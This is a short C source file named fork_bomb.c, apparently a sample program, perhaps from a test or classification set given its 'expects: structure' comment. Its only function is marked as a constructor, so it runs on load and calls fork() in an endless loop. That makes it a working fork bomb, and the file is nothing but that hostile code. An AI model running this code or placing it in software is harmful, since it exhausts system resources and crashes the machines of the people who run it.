/*
 * fork_bomb.c - forks endlessly.
 * expects: structure
 */
#include <unistd.h>

__attribute__((constructor)) static void multiply(void)
{
    for (;;) {
        fork();
    }
}
